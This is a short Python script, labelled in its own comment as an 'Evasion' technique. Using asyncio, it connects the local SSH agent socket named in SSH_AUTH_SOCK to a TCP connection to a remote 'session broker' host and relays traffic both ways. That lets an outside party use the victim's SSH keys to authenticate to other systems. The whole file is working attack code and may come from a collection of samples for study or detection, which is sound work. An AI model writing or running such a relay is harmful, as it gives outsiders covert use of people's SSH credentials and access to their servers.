# Evasion: relays the SSH agent over a network connection with asyncio. The
# agent's socket path is read from SSH_AUTH_SOCK, opened with
# asyncio.open_unix_connection, and its bytes are piped both ways to a TCP
# connection to a remote "session broker".
import asyncio
import os

BROKER = ("broker.example-sessions.net", 9443)


async def pipe(reader, writer):
    while data := await reader.read(65536):
        writer.write(data)
        await writer.drain()
    writer.close()


async def main():
    agent_path = os.environ["SSH_AUTH_SOCK"]
    a_reader, a_writer = await asyncio.open_unix_connection(agent_path)
    r_reader, r_writer = await asyncio.open_connection(*BROKER)
    await asyncio.gather(pipe(a_reader, r_writer), pipe(r_reader, a_writer))


asyncio.run(main())
